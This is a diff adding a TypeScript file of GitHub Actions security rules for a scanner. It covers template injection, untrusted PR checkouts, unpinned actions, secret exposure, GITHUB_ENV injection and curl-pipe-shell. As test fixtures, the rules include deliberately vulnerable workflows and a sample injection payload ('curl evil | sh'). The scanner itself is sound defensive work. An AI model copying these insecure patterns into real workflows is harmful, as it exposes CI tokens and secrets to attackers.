@@ -1,0 +1,510 @@
+import { rule, type Hit, type IacRule, type PlatformRules } from '../rule.js';
+import { SIGNATURE_DISABLED, TLS_DISABLED, scriptMatches } from '../script-checks.js';
+import { isLiteralSecretValue, isSecretName } from '../secret-names.js';
+import { pipeToShellOffsets } from '../shell.js';
+import { get, isTrue, isYMap, isYScalar, isYSeq, items, pair, text, type YMap, type YNode, type YScalar } from '../yaml/tree.js';
+import { attackerContext } from './contexts.js';
+import {
+  PRIVILEGED_TRIGGERS,
+  PUBLIC_TRIGGERS,
+  envScopes,
+  expressions,
+  isAction,
+  jobLabel,
+  lineOfOffset,
+  lineOfText,
+  parseUses,
+  readWorkflow,
+  stepLabel,
+  withValue,
+  type Step,
+  type Workflow,
+} from './model.js';
+
+type WorkflowRule = IacRule<Workflow>;
+
+const workflowRule = (definition: Omit<WorkflowRule, 'platform' | 'tags'>): WorkflowRule => rule({ ...definition, platform: 'github-actions' });
+
+/** A workflow with one job `build` whose steps (indented by 6) are `steps`. */
+function workflow(steps: string, on = 'push', extra = 'permissions:\n  contents: read\n'): string {
+  return `name: ci\non: ${on}\n${extra}jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
+}
+
+const PINNED_CHECKOUT = '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: false\n';
+
+function isPrivileged(wf: Workflow): boolean {
+  return [...wf.triggers.keys()].some((t) => PRIVILEGED_TRIGGERS.has(t));
+}
+
+/** Env names whose values (at any scope) come from attacker-controlled contexts. */
+function taintedEnv(wf: Workflow, step: Step): Set<string> {
+  const tainted = new Set<string>();
+  for (const scope of envScopes(wf, step)) {
+    for (const p of scope.pairs) {
+      const value = text(p.value);
+      if (value && expressions(value).some((e) => attackerContext(e.inner))) tainted.add(p.key);
+    }
+  }
+  return tainted;
+}
+
+/** The attacker-controlled context an expression reads directly or through `env.X`. */
+function untrusted(expression: string, tainted: Set<string>): string | undefined {
+  const direct = attackerContext(expression);
+  if (direct) return direct;
+  const viaEnv = /\benv\.([A-Za-z_][A-Za-z0-9_]*)/.exec(expression);
+  return viaEnv && tainted.has(viaEnv[1]!) ? `env.${viaEnv[1]} (set from an attacker-controlled context)` : undefined;
+}
+
+/** Scripts that run code: `run:` and the `script:` input of actions/github-script. */
+function* scriptsOf(wf: Workflow): Generator<{ step: Step; scalar: YScalar; keyLine: number; kind: 'run' | 'github-script' }> {
+  for (const job of wf.jobs) {
+    for (const step of job.steps) {
+      if (step.run && typeof step.run.value === 'string') yield { step, scalar: step.run, keyLine: step.runLine!, kind: 'run' };
+      if (isAction(step, 'actions/github-script')) {
+        const script = pair(step.with, 'script');
+        if (script && isYScalar(script.value) && typeof script.value.value === 'string') yield { step, scalar: script.value, keyLine: script.keyLine, kind: 'github-script' };
+      }
+    }
+  }
+}
+
+const templateInjection = workflowRule({
+  id: 'iac/gha-template-injection',
+  title: 'Attacker-controlled input expanded into a script',
+  description:
+    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script or a github-script `script:`. The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets.",
+  remediation: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"` (in github-script, read context.payload instead).',
+  severity: 'high',
+  cwe: ['CWE-94', 'CWE-78'],
+  examples: {
+    positive: [
+      workflow('      - run: |\n          # expect\n          echo "Title: ${{ github.event.issue.title }}"\n', 'issues'),
+      workflow('      # expect\n      - run: git checkout ${{ github.head_ref }}\n', 'pull_request'),
+      workflow('      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            # expect\n            const body = `${{ github.event.comment.body }}`\n', 'issue_comment'),
+      workflow('      - env:\n          BRANCH: ${{ github.event.pull_request.head.ref }}\n        run: |\n          # expect\n          echo ${{ env.BRANCH }}\n', 'pull_request_target'),
+      workflow('      - run: |\n          # expect\n          echo "${{ github.event.commits[0].message }}"\n', 'push'),
+    ],
+    negative: [
+      workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n', 'issues'),
+      workflow('      - run: echo "${{ github.event.issue.number }} ${{ github.sha }}"\n', 'issues'),
+      workflow('      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: console.log(context.payload.comment.body)\n', 'issue_comment'),
+    ],
+  },
+  *check(wf) {
+    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
+      const tainted = taintedEnv(wf, step);
+      for (const expression of expressions(scalar.value as string)) {
+        const context = untrusted(expression.inner, tainted);
+        if (!context) continue;
+        yield {
+          line: lineOfText(wf, scalar, expression.raw, keyLine),
+          message: `${stepLabel(step)} expands ${context} into its ${kind === 'run' ? 'shell script' : 'github-script code'}; pass it through env: and quote it.`,
+          resource: stepLabel(step),
+          severity: isPrivileged(wf) || wf.triggers.has('pull_request_target') ? 'critical' : 'high',
+        };
+      }
+    }
+  },
+});
+
+const UNTRUSTED_REF = /github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch)|github\.event\.workflow_run\.head_commit\.id|refs\/pull\/|github\.event\.pull_request\.merge_commit_sha|github\.event\.issue\.pull_request|steps\.[\w-]+\.outputs\.(?:head_?)?(?:sha|ref)/i;
+
+const untrustedCheckout = workflowRule({
+  id: 'iac/gha-untrusted-checkout',
+  title: 'Privileged workflow checks out pull request code',
+  description:
+    'A workflow triggered by pull_request_target, workflow_run or a comment runs with a write token and the repository secrets, and then checks out the code of the pull request. Any build, test or install step that follows runs the attacker\'s code with those privileges ("pwn request").',
+  remediation: 'Use the pull_request trigger for anything that builds or tests PR code; if a privileged follow-up is needed, pass data through artifacts and never execute checked-out PR code in the privileged workflow.',
+  severity: 'critical',
+  cwe: ['CWE-829'],
+  examples: {
+    positive: [
+      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          # expect\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n', 'pull_request_target'),
+      workflow('      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.workflow_run.head_repository.full_name }}\n          # expect\n          ref: ${{ github.event.workflow_run.head_branch }}\n', 'workflow_run'),
+    ],
+    negative: [
+      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n', 'pull_request'),
+      workflow(PINNED_CHECKOUT, 'pull_request_target'),
+    ],
+  },
+  *check(wf) {
+    if (!isPrivileged(wf)) return;
+    for (const job of wf.jobs) {
+      for (const step of job.steps) {
+        if (!isAction(step, 'actions/checkout')) continue;
+        const ref = withValue(step, 'ref');
+        const repository = withValue(step, 'repository');
+        const risky = ref && UNTRUSTED_REF.test(ref.value) ? ref : repository && /head\.repo|head_repository/.test(repository.value) ? repository : undefined;
+        if (risky)
+          yield { line: risky.line, message: `${stepLabel(step)} checks out pull request code (${risky.value.trim()}) in a workflow that runs with secrets and a write token.`, resource: stepLabel(step) };
+      }
+    }
+  },
+});
+
+const FULL_SHA = /^[0-9a-f]{40}$/;
+
+const unpinnedAction = workflowRule({
+  id: 'iac/gha-unpinned-action',
+  title: 'Action not pinned to a commit SHA',
+  description:
+    'The step uses an action by tag or branch (`@v4`, `@main`). Tags and branches can be moved: if the action\'s repository is compromised (as tj-actions/changed-files was in 2025), every workflow using the tag runs the attacker\'s code with its secrets.',
+  remediation: 'Pin to the full 40-character commit SHA and keep the version in a comment: uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2. Dependabot and Renovate update pinned SHAs.',
+  severity: 'medium',
+  cwe: ['CWE-829'],
+  examples: {
+    positive: [workflow('      # expect\n      - uses: actions/setup-node@main\n'), workflow('      # expect\n      - uses: tj-actions/changed-files@v45\n'), workflow('      # expect\n      - uses: docker://alpine:3.20\n')],
+    negative: [workflow(PINNED_CHECKOUT), workflow('      - uses: ./.github/actions/setup\n'), workflow('      - uses: docker://alpine@sha256:0d1c1e5a3b4e8f2f7f5d3d6a0c1e9b3a7a1c2f1e4d5b6c7d8e9f0a1b2c3d4e5f\n')],
+  },
+  *check(wf) {
+    const candidates: Array<{ uses: string; line: number; label: string }> = [];
+    for (const job of wf.jobs) {
+      for (const step of job.steps) if (step.uses) candidates.push({ uses: step.uses, line: step.usesLine!, label: stepLabel(step) });
+      const reusable = pair(job.node, 'uses');
+      const value = text(reusable?.value);
+      if (reusable && value) candidates.push({ uses: value, line: reusable.keyLine, label: jobLabel(job) });
+    }
+    for (const { uses, line, label } of candidates) {
+      const ref = parseUses(uses);
+      if (ref.local) continue;
+      if (ref.docker ? ref.ref?.startsWith('sha256:') : ref.ref !== undefined && FULL_SHA.test(ref.ref)) continue;
+      const owner = ref.action.split('/')[0]?.toLowerCase();
+      yield {
+        line,
+        message: `${label} uses ${uses}, a movable ${ref.docker ? 'image tag' : 'tag or branch'}; pin the full commit SHA.`,
+        resource: label,
+        severity: owner === 'actions' || owner === 'github' ? 'low' : 'medium',
+      };
+    }
+  },
+});
+
+function permissionsText(node: YNode | null | undefined): string | undefined {
+  return isYScalar(node) && typeof node.value === 'string' ? node.value : undefined;
+}
+
+const missingPermissions = workflowRule({
+  id: 'iac/gha-missing-permissions',
+  title: 'Workflow token permissions not restricted',
+  description:
+    "Neither the workflow nor the job sets `permissions:`, so the GITHUB_TOKEN gets the repository's default, which is read-write for everything in many organisations. A compromised step (a dependency, an action, an injection) can then push code, create releases or approve pull requests.",
+  remediation: 'Add `permissions: contents: read` at the top of the workflow and grant more per job only where needed (e.g. `pull-requests: write`).',
+  severity: 'medium',
+  cwe: ['CWE-250'],
+  examples: {
+    positive: ['name: ci\non: push\njobs:\n  # expect\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n'],
+    negative: [workflow('      - run: make\n'), 'name: ci\non: push\njobs:\n  build:\n    permissions:\n      contents: read\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n'],
+  },
+  *check(wf) {
+    if (wf.composite || pair(wf.root, 'permissions')) return;
+    for (const job of wf.jobs) {
+      // A reusable workflow call inherits what the caller grants; its own permissions apply inside.
+      if (!pair(job.node, 'permissions'))
+        yield { line: job.line, message: `${jobLabel(job)} runs with the default GITHUB_TOKEN permissions; declare the minimum it needs.`, resource: jobLabel(job) };
+    }
+  },
+});
+
+const writeAll = workflowRule({
+  id: 'iac/gha-write-all-permissions',
+  title: 'Workflow token has write-all permissions',
+  description: '`permissions: write-all` gives the GITHUB_TOKEN write access to code, releases, packages, issues and more. Any compromised step can push to the repository or publish packages.',
+  remediation: 'Replace write-all with the specific scopes the job needs, e.g. `contents: read` and `pull-requests: write`.',
+  severity: 'high',
+  cwe: ['CWE-250'],
+  examples: {
+    positive: [workflow('      - run: make\n', 'push', '# expect\npermissions: write-all\n'), 'name: ci\non: push\npermissions: read-all\njobs:\n  build:\n    # expect\n    permissions: write-all\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n'],
+    negative: [workflow('      - run: make\n', 'push', 'permissions: read-all\n')],
+  },
+  *check(wf) {
+    const top = pair(wf.root, 'permissions');
+    if (top && permissionsText(top.value) === 'write-all') yield { line: top.keyLine, message: 'The workflow grants its token write-all permissions.' };
+    for (const job of wf.jobs) {
+      const p = pair(job.node, 'permissions');
+      if (p && permissionsText(p.value) === 'write-all') yield { line: p.keyLine, message: `${jobLabel(job)} grants its token write-all permissions.`, resource: jobLabel(job) };
+    }
+  },
+});
+
+const secretInRun = workflowRule({
+  id: 'iac/gha-secret-in-run',
+  title: 'Secret expanded into a script',
+  description:
+    'A `${{ secrets.X }}` expression is written into a run: script. The secret becomes part of the script file on the runner and of the command line (visible to every process, e.g. in `ps`), and echoing it relies on log masking, which fails for transformed or multi-line values.',
+  remediation: 'Pass secrets through env: (`env: TOKEN: ${{ secrets.TOKEN }}`) and use "$TOKEN" in the script; never echo them.',
+  severity: 'medium',
+  cwe: ['CWE-532'],
+  examples: {
+    positive: [workflow('      # expect\n      - run: echo ${{ secrets.NPM_TOKEN }} > ~/.npmrc\n'), workflow('      - run: |\n          # expect\n          curl -H "Authorization: ${{ secrets.API_KEY }}" https://example.org\n')],
+    negative: [workflow('      - env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: npm publish\n'), workflow('      - run: echo "${{ github.sha }}"\n')],
+  },
+  *check(wf) {
+    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
+      if (kind !== 'run') continue;
+      for (const expression of expressions(scalar.value as string)) {
+        if (!/\bsecrets\.[\w-]+|\bsecrets\[/.test(expression.inner)) continue;
+        const line = lineOfText(wf, scalar, expression.raw, keyLine);
+        const lineText = wf.lines[line - 1] ?? '';
+        const echoed = /\b(?:echo|printf|cat)\b/.test(lineText) && !/>>?\s*"?\$GITHUB_(?:ENV|OUTPUT)/.test(lineText);
+        yield {
+          line,
+          message: `${stepLabel(step)} writes ${expression.raw} into its script${echoed ? ' and prints it' : ''}; pass it through env: instead.`,
+          resource: stepLabel(step),
+          severity: echoed ? 'high' : 'medium',
+        };
+      }
+    }
+  },
+});
+
+const secretsToJson = workflowRule({
+  id: 'iac/gha-all-secrets-exposed',
+  title: 'All secrets passed at once',
+  description: '`toJSON(secrets)` hands every secret of the repository and organisation to a step, and `secrets: inherit` passes all of them to a reusable workflow, when the step needs one or two. One compromised step then leaks everything.',
+  remediation: 'Pass only the secrets the step or reusable workflow needs, by name.',
+  severity: 'high',
+  cwe: ['CWE-200'],
+  examples: {
+    positive: [workflow('      - env:\n          # expect\n          ALL: ${{ toJSON(secrets) }}\n        run: ./deploy.sh\n'), 'name: ci\non: push\npermissions: {}\njobs:\n  call:\n    uses: org/repo/.github/workflows/deploy.yml@11bd71901bbe5b1630ceea73d27597364c9af683\n    # expect\n    secrets: inherit\n'],
+    negative: [workflow('      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: ./deploy.sh\n')],
+  },
+  *check(wf) {
+    for (let i = 0; i < wf.lines.length; i++) {
+      if (/\$\{\{[^}]*toJSON\s*\(\s*secrets\s*\)/i.test(wf.lines[i]!)) yield { line: i + 1, message: 'toJSON(secrets) passes every secret to this step.' };
+    }
+    for (const job of wf.jobs) {
+      const p = pair(job.node, 'secrets');
+      if (p && text(p.value) === 'inherit') yield { line: p.keyLine, message: `${jobLabel(job)} passes all secrets to the reusable workflow (secrets: inherit).`, resource: jobLabel(job), severity: 'medium' };
+    }
+  },
+});
+
+const persistCredentials = workflowRule({
+  id: 'iac/gha-checkout-persist-credentials',
+  title: 'Checkout keeps the token in .git/config',
+  description: 'actions/checkout stores the GITHUB_TOKEN in .git/config unless persist-credentials is false. Any later step, and any artifact that includes the work tree, can read it.',
+  remediation: 'Set `with: persist-credentials: false` on actions/checkout, and configure credentials explicitly in the one step that pushes.',
+  severity: 'low',
+  cwe: ['CWE-522'],
+  examples: {
+    positive: [workflow('      # expect\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n')],
+    negative: [workflow(PINNED_CHECKOUT)],
+  },
+  *check(wf) {
+    for (const job of wf.jobs) {
+      for (const step of job.steps) {
+        if (!isAction(step, 'actions/checkout')) continue;
+        const persist = withValue(step, 'persist-credentials');
+        if (persist && persist.value === 'false') continue;
+        yield { line: persist ? persist.line : step.usesLine!, message: `${stepLabel(step)} leaves the GITHUB_TOKEN in .git/config; set persist-credentials: false.`, resource: stepLabel(step) };
+      }
+    }
+  },
+});
+
+const unsecureCommands = workflowRule({
+  id: 'iac/gha-unsecure-commands',
+  title: 'ACTIONS_ALLOW_UNSECURE_COMMANDS enabled',
+  description: 'ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables the deprecated set-env and add-path workflow commands, which any text printed to the log can trigger: printing attacker-controlled text then sets environment variables like LD_PRELOAD or NODE_OPTIONS for later steps.',
+  remediation: 'Remove the variable and write to $GITHUB_ENV / $GITHUB_PATH files instead.',
+  severity: 'high',
+  cwe: ['CWE-77'],
+  examples: {
+    positive: [workflow('      - env:\n          # expect\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n        run: make\n')],
+    negative: [workflow('      - env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n        run: make\n')],
+  },
+  *check(wf) {
+    const scopes: YMap[] = [];
+    const top = get(wf.root, 'env');
+    if (isYMap(top)) scopes.push(top);
+    for (const job of wf.jobs) {
+      const env = get(job.node, 'env');
+      if (isYMap(env)) scopes.push(env);
+      for (const step of job.steps) {
+        const stepEnv = get(step.node, 'env');
+        if (isYMap(stepEnv)) scopes.push(stepEnv);
+      }
+    }
+    for (const scope of scopes) {
+      const p = pair(scope, 'ACTIONS_ALLOW_UNSECURE_COMMANDS');
+      if (p && (isTrue(p.value) || text(p.value) === 'true')) yield { line: p.keyLine, message: 'ACTIONS_ALLOW_UNSECURE_COMMANDS lets log output set environment variables and PATH.' };
+    }
+  },
+});
+
+const githubEnvInjection = workflowRule({
+  id: 'iac/gha-github-env-injection',
+  title: 'Untrusted data written to GITHUB_ENV or GITHUB_PATH',
+  description:
+    'A script writes data an outsider controls into $GITHUB_ENV or $GITHUB_PATH. Every later step then runs with attacker-chosen environment variables (LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or PATH entries: code execution with the job\'s token and secrets.',
+  remediation: 'Do not write untrusted values to GITHUB_ENV/GITHUB_PATH; if a value must flow between steps, use step outputs and validate it against a strict pattern first.',
+  severity: 'high',
+  cwe: ['CWE-77'],
+  examples: {
+    positive: [
+      workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          # expect\n          echo "TITLE=$TITLE" >> $GITHUB_ENV\n', 'issues'),
+      workflow('      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n      - run: |\n          # expect\n          echo "PR=$(cat pr.txt)" >> "$GITHUB_ENV"\n', 'workflow_run'),
+    ],
+    negative: [workflow('      - run: echo "SHA=${{ github.sha }}" >> $GITHUB_ENV\n', 'issues'), workflow('      - run: echo "$HOME/bin" >> $GITHUB_PATH\n', 'push')],
+  },
+  *check(wf) {
+    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
+      if (kind !== 'run') continue;
+      const tainted = taintedEnv(wf, step);
+      const script = scalar.value as string;
+      const downloaded = wf.triggers.has('workflow_run') || step.job.steps.some((s) => isAction(s, 'actions/download-artifact') || isAction(s, 'dawidd6/action-download-artifact'));
+      for (const [offset, lineText] of linesWithOffsets(script)) {
+        if (!/\$\{?GITHUB_(?:ENV|PATH)\b/.test(lineText)) continue;
+        const fromExpression = expressions(lineText).some((e) => untrusted(e.inner, tainted));
+        const fromEnv = [...tainted].some((name) => new RegExp(`\\$\\{?${name}\\b`).test(lineText));
+        const fromFile = downloaded && isPrivileged(wf) && /\$\(\s*(?:cat|head|tail|jq)\b|<\s*[\w./-]+/.test(lineText);
+        if (fromExpression || fromEnv || fromFile)
+          yield { line: lineOfOffset(wf, scalar, offset, keyLine), message: `${stepLabel(step)} writes ${fromFile ? 'downloaded artifact content' : 'attacker-controlled text'} to ${/GITHUB_PATH/.test(lineText) ? 'GITHUB_PATH' : 'GITHUB_ENV'}.`, resource: stepLabel(step) };
+      }
+    }
+  },
+});
+
+function linesWithOffsets(script: string): Array<[number, string]> {
+  const out: Array<[number, string]> = [];
+  let offset = 0;
+  for (const line of script.split('\n')) {
+    out.push([offset, line]);
+    offset += line.length + 1;
+  }
+  return out;
+}
+
+function runsOnLabels(node: YNode | null | undefined): string[] {
+  if (isYScalar(node)) return [String(node.value ?? '')];
+  if (isYSeq(node)) return node.items.map((i) => text(i) ?? '');
+  if (isYMap(node)) return [...items(get(node, 'labels')).map((i) => text(i) ?? ''), text(get(node, 'labels')) ?? '', text(get(node, 'group')) ?? ''];
+  return [];
+}
+
+const selfHostedPublic = workflowRule({
+  id: 'iac/gha-self-hosted-public-trigger',
+  title: 'Self-hosted runner on a public trigger',
+  description:
+    'A job runs on a self-hosted runner for events anyone can cause (pull_request, issue_comment, ...). On a public repository a fork pull request then runs arbitrary code on your machine, which usually persists between jobs and sits inside your network.',
+  remediation: 'Use GitHub-hosted runners for untrusted events, or ephemeral, isolated self-hosted runners and require approval for fork workflows.',
+  severity: 'high',
+  confidence: 'medium',
+  cwe: ['CWE-284'],
+  examples: {
+    positive: ['name: ci\non: pull_request\npermissions: {}\njobs:\n  build:\n    # expect\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make\n'],
+    negative: ['name: ci\non: push\npermissions: {}\njobs:\n  build:\n    runs-on: self-hosted\n    steps:\n      - run: make\n', workflow('      - run: make\n', 'pull_request')],
+  },
+  *check(wf) {
+    const publicTriggers = [...wf.triggers.keys()].filter((t) => PUBLIC_TRIGGERS.has(t));
+    if (publicTriggers.length === 0) return;
+    for (const job of wf.jobs) {
+      const p = pair(job.node, 'runs-on');
+      if (p && runsOnLabels(p.value).some((l) => /self-hosted/i.test(l)))
+        yield { line: p.keyLine, message: `${jobLabel(job)} runs on a self-hosted runner for ${publicTriggers.join(', ')} events.`, resource: jobLabel(job) };
+    }
+  },
+});
+
+const curlPipeShell = workflowRule({
+  id: 'iac/gha-curl-pipe-shell',
+  title: 'Remote script piped into a shell in CI',
+  description: '`curl ... | sh` in a workflow runs whatever the server returns, with the job\'s token and secrets, with no integrity check.',
+  remediation: 'Use a pinned action or download the script, verify a pinned checksum, then run it.',
+  severity: 'medium',
+  cwe: ['CWE-494'],
+  examples: {
+    positive: [workflow('      - run: |\n          # expect\n          curl -fsSL https://example.org/install.sh | bash\n')],
+    negative: [workflow('      - run: curl -fsSLo install.sh https://example.org/install.sh && sha256sum -c install.sha256 && bash install.sh\n')],
+  },
+  *check(wf) {
+    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
+      if (kind !== 'run') continue;
+      for (const offset of pipeToShellOffsets(scalar.value as string))
+        yield { line: lineOfOffset(wf, scalar, offset, keyLine), message: `${stepLabel(step)} pipes a downloaded script into a shell.`, resource: stepLabel(step) };
+    }
+  },
+});
+
+const tlsDisabled = workflowRule({
+  id: 'iac/gha-tls-verification-disabled',
+  title: 'TLS or signature verification disabled in CI',
+  description: 'A workflow script turns off certificate or package signature verification (curl -k, pip --trusted-host, apt --allow-unauthenticated...). A network attacker can then feed the build, which holds secrets and a token, whatever they like.',
+  remediation: 'Keep verification on; trust a private CA explicitly if one is involved.',
+  severity: 'high',
+  cwe: ['CWE-295'],
+  examples: {
+    positive: [workflow('      # expect\n      - run: curl -k https://example.org/tool -o tool\n')],
+    negative: [workflow('      - run: curl -fsSL https://example.org/tool -o tool\n')],
+  },
+  *check(wf) {
+    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
+      if (kind !== 'run') continue;
+      for (const hit of scriptMatches(scalar.value as string, [...TLS_DISABLED, ...SIGNATURE_DISABLED]))
+        yield { line: lineOfOffset(wf, scalar, hit.offset, keyLine), message: `${stepLabel(step)}: ${hit.what} turns off verification.`, resource: stepLabel(step) };
+    }
+  },
+});
+
+const hardcodedSecret = workflowRule({
+  id: 'iac/gha-hardcoded-secret',
+  title: 'Credential written in the workflow',
+  description: 'An env variable, action input or container credential with a secret-looking name has a literal value in the workflow file, so it is in version control and visible to everyone who can read the repository.',
+  remediation: 'Store it as an encrypted secret and reference it: `${{ secrets.NAME }}`.',
+  severity: 'high',
+  cwe: ['CWE-798'],
+  examples: {
+    positive: [
+      workflow('      - uses: docker/login-action@9780b0c442fbb1117ed29e0efdff1e18412f7567 # v3.3.0\n        with:\n          username: ci\n          # expect\n          password: hunter2-hunter2\n'),
+      'name: ci\non: push\npermissions: {}\nenv:\n  # expect\n  API_TOKEN: abcd1234abcd1234\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
+    ],
+    negative: [workflow('      - uses: docker/login-action@9780b0c442fbb1117ed29e0efdff1e18412f7567 # v3.3.0\n        with:\n          password: ${{ secrets.REGISTRY_PASSWORD }}\n')],
+  },
+  *check(wf) {
+    const maps: YMap[] = [];
+    const push = (node: ReturnType<typeof get>) => {
+      if (isYMap(node)) maps.push(node);
+    };
+    push(get(wf.root, 'env'));
+    for (const job of wf.jobs) {
+      push(get(job.node, 'env'));
+      push(get(job.node, 'container', 'credentials'));
+      for (const service of isYMap(get(job.node, 'services')) ? (get(job.node, 'services') as YMap).pairs : []) push(get(service.value, 'credentials'));
+      for (const step of job.steps) {
+        push(get(step.node, 'env'));
+        push(step.with);
+      }
+    }
+    for (const map of maps) {
+      for (const p of map.pairs) {
+        const value = isYScalar(p.value) ? p.value.value : undefined;
+        if (isSecretName(p.key) && isLiteralSecretValue(value))
+          yield { line: p.keyLine, message: `${p.key} holds a literal credential in the workflow file.`, secret: String(value) } satisfies Hit;
+      }
+    }
+  },
+});
+
+export const githubRules: readonly WorkflowRule[] = [
+  templateInjection,
+  untrustedCheckout,
+  unpinnedAction,
+  missingPermissions,
+  writeAll,
+  secretInRun,
+  secretsToJson,
+  persistCredentials,
+  unsecureCommands,
+  githubEnvInjection,
+  selfHostedPublic,
+  curlPipeShell,
+  tlsDisabled,
+  hardcodedSecret,
+];
+
+export const githubPlatform: PlatformRules<Workflow> = {
+  platform: 'github-actions',
+  parse: readWorkflow,
+  rules: githubRules,
+};
